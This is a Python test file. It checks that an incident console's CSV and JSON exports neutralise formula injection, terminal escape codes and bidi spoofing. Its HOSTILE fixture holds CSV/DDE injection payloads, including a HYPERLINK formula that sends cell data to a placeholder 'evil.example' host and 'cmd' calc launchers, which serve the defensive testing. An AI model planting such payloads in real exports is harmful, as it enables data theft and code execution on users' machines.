"""What the console prints cannot attack the next tool: spreadsheets and terminals.

``noc-console export`` runs as a real process over a real cache file holding
hostile titles; the CSV is read back with the csv module, as a spreadsheet
would see it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from console.cli.export import write_rows
from console.domain.textsafe import csv_cell, terminal_safe
from console.store import Cache
from tests.helpers.factories import cached_incident as make_incident

HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "escape": "VPN down \x1b[2J\x1b]0;pwned\x07 \x9b31m red",
    "bidi": "Checkout \u202egnp.exe",
}


def _export(tmp_path: Path, fmt: str) -> str:
    data = tmp_path / "data"
    with Cache.open(data / "cache.db") as cache:
        cache.upsert_incidents(
            make_incident(f"id-{name}", title=title, number=f"INC-{n:06d}")
            for n, (name, title) in enumerate(HOSTILE.items(), start=1)
        )
    result = subprocess.run(
        [sys.executable, "-m", "console", "export", "incidents", "--format", fmt,
         "--data-dir", str(data), "--config-dir", str(tmp_path / "config")],
        capture_output=True, text=True, timeout=60, env=os.environ.copy(), check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_csv_export_neutralises_formulas_and_escapes(tmp_path: Path) -> None:
    text = _export(tmp_path, "csv")
    assert "\x1b" not in text
    assert "\x9b" not in text
    assert "\u202e" not in text
    titles = {row["id"]: row["title"] for row in csv.DictReader(io.StringIO(text))}
    for name, _title in HOSTILE.items():
        cell = titles[f"id-{name}"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert titles["id-formula"] == "'" + HOSTILE["formula"]
    assert titles["id-escape"] == "VPN down [2J]0;pwned 31m red"
    assert titles["id-bidi"] == "Checkout gnp.exe"


def test_json_export_keeps_the_text_but_no_raw_control_characters(tmp_path: Path) -> None:
    text = _export(tmp_path, "json")
    assert "\x1b" not in text
    assert "\x9b" not in text
    assert "\u202e" not in text
    titles = {row["id"]: row["title"] for row in json.loads(text)}
    assert titles == {f"id-{name}": title for name, title in HOSTILE.items()}


def test_numbers_stay_numbers_and_every_writer_shares_the_cell_rules() -> None:
    assert csv_cell(-15) == -15
    assert csv_cell(None) == ""
    assert csv_cell("-15") == "'-15"
    out = io.StringIO()
    write_rows([{"a": "=1+1", "b": -3}], "csv", out, fields=("a", "b"))
    assert out.getvalue() == "a,b\n'=1+1,-3\n"
    assert terminal_safe("ok\n\tline \x1b[31m") == "ok\n\tline [31m"
